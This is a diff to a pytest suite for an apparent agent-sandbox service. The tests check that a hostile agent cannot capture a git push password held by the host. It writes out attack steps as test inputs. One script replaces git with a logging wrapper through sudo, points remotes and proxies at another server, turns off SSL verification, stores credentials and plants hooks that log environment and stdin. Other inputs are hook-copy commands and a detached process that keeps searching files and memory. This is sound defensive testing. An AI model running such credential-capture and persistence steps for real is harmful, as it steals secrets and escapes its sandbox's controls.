@@ -43,6 +43,20 @@ class Noting(Page):
 
 
 @pytest.fixture(scope="module")
+def private(world):
+    """A server that wants a password, which is the secret push-password, and one to which the agent would send it."""
+    directory = world.networks.directory / "git"
+    directory.mkdir()
+    server = GitServer(world.networks.far.listen(FAR[0], GIT_PORT), directory)
+    server.other = GitServer(world.networks.far.listen(FAR[1], GIT_PORT), directory)
+    server.make("private")
+    assert world.rest.post("/api/secrets", {"name": "push-password", "value": PASSWORD}).status == 201
+    yield server
+    server.other.close()
+    server.close()
+
+
+@pytest.fixture(scope="module")
 def world(tmp_path_factory):
     registry = tmp_path_factory.mktemp("registry") / "registry"
     shutil.copytree(ROOT / "registry", registry)
@@ -165,14 +179,9 @@ END
 """
 
 
-def test_a_hostile_repository_does_not_find_the_password(world):
+def test_a_hostile_repository_does_not_find_the_password(world, private):
     """The agent, a process that it leaves, and hooks of the repository search files and memory; where the password is
     planted, they find it."""
-    directory = world.networks.directory
-    (directory / "git").mkdir()
-    server = GitServer(world.networks.far.listen(FAR[0], GIT_PORT), directory / "git")
-    server.make("private")
-    assert world.rest.post("/api/secrets", {"name": "push-password", "value": PASSWORD}).status == 201
     hooks = "mkdir -p .git/hooks; for h in pre-push pre-commit; do cp /tmp/search .git/hooks/$h; done; chmod +x .git/hooks/*"
     left = "(setsid sh -c 'while :; do sh /tmp/search; done' </dev/null >/dev/null 2>&1 &)"
     task = world.rest.call("POST", "/api/tasks", {
@@ -185,7 +194,7 @@ def test_a_hostile_repository_does_not_find_the_password(world):
     box = task["sandbox_id"]
     found = world.rest.call("GET", f"/api/sandboxes/{box}/files", path="/tmp/found.txt").body.decode().splitlines()
     assert found and set(found) == {"found []"}, found
-    # What the agent has left was ended before git had the password.
+    # What the agent has left was ended before the branch was read.
     left = world.rest.post(f"/api/sandboxes/{box}/execs?wait=true", {"cmd": ["pgrep", "-f", "[/]tmp/search"]})
     assert left.json["result"]["exit_code"] == 1, left.body
     world.rest.delete(f"/api/sandboxes/{box}")
@@ -194,4 +203,67 @@ def test_a_hostile_repository_does_not_find_the_password(world):
     task = world.rest.call("POST", "/api/tasks", {"agent": "shell", "autoCleanup": True, "instruction": planted},
                            wait="true").json
     assert "/tmp/planted" in task["output"] and "memory of" in task["output"], task
-    server.close()
+
+
+# A git of the agent's: records what the typed one is given, and then does as git does.
+RECORDING = """#!/bin/sh
+{ echo "ran $*"; env; ls -l /proc/$$/fd; timeout 1 cat <&9; timeout 1 cat; } >> /tmp/recorded.txt 2>&1
+exec /usr/bin/git "$@"
+"""
+BECOMES_ROOT = f"""set -e
+cat > /tmp/git <<'OUTER'
+{RECORDING}OUTER
+sudo install -m 755 /tmp/git /usr/local/bin/git
+for where in --global --local; do
+  git config $where http.proxy http://two.test:{GIT_PORT}
+  git config $where http.sslVerify false
+  git config $where credential.helper 'store --file /tmp/kept'
+  git config $where url.http://two.test:{GIT_PORT}/.insteadOf http://one.test:{GIT_PORT}/
+done
+git remote set-url origin http://two.test:{GIT_PORT}/private.git
+for hook in pre-push reference-transaction; do
+  printf '#!/bin/sh\ncat >> /tmp/recorded.txt; env >> /tmp/recorded.txt\n' > .git/hooks/$hook
+  chmod +x .git/hooks/$hook
+done
+echo 1 > new"""
+
+
+def searched(world, box):
+    return world.rest.post(f"/api/sandboxes/{box}/execs?wait=true", {"cmd": ["sh", "-c", HOSTILE], "user": "root"}).json["stdout"]
+
+
+def test_an_agent_that_replaces_git_does_not_get_the_password(world, private):
+    """It is root in its sandbox, and git is what it wants it to be. The branch is pushed, to the right server."""
+    rest = world.rest
+    repo = {"url": f"http://one.test:{GIT_PORT}/private.git", "username": USER, "secret": "push-password"}
+    task = rest.call("POST", "/api/tasks", {"agent": "shell", "branch": "fake", "cleanup": "never", "repo": repo,
+                                            "sandbox": {"network": {"mode": "bridge"}}, "instruction": BECOMES_ROOT},
+                     wait="true").json
+    assert task["state"] == "succeeded" and task["pushed"], task
+    assert git("rev-parse", "fake", cwd=private.root / "private.git").strip() == task["commit"]
+    box = task["sandbox_id"]
+    assert [one["id"] for one in rest.call("GET", "/api/sandboxes").json["sandboxes"]] == [box]
+    recorded = rest.call("GET", f"/api/sandboxes/{box}/files", path="/tmp/recorded.txt").body.decode()
+    assert "ran bundle create" in recorded, recorded
+    assert searched(world, box) == "found []\n" and private.other.offered == []
+    # The control: git that talks to the server in the agent's sandbox is given the password, and so it is found.
+    rest.post(f"/api/sandboxes/{box}/git/push", {"path": "/work", "ref": "fake", "credentials": {
+        "username": USER, "password": PASSWORD, "host": f"two.test:{GIT_PORT}"}})
+    assert "/tmp/recorded.txt" in searched(world, box)
+    private.other.offered.clear()
+    rest.delete(f"/api/sandboxes/{box}")
+
+
+def test_a_clone_is_not_repeated_beside_the_agent(world, private):
+    """A retry from the clone begins with another sandbox; without a password it does not."""
+    url = f"http://one.test:{GIT_PORT}"
+    private.make("public/open")
+    for repo in ({"url": f"{url}/private.git", "username": USER, "secret": "push-password"}, {"url": f"{url}/public/open.git"}):
+        task = world.rest.call("POST", "/api/tasks", {
+            "agent": "shell", "instruction": "echo 1 > new", "check": "false", "cleanup": "never", "repo": repo,
+            "sandbox": {"network": {"mode": "bridge"}}}, wait="true").json
+        assert task["step"] == "check", task
+        assert world.rest.post(f"/api/tasks/{task['id']}/retry", {"step": "clone"}).status == 202
+        again = world.rest.call("GET", f"/api/tasks/{task['id']}", wait="true").json
+        assert again["step"] == "check" and (again["sandbox_id"] == task["sandbox_id"]) == ("secret" not in repo), again
+        world.rest.delete(f"/api/sandboxes/{again['sandbox_id']}")
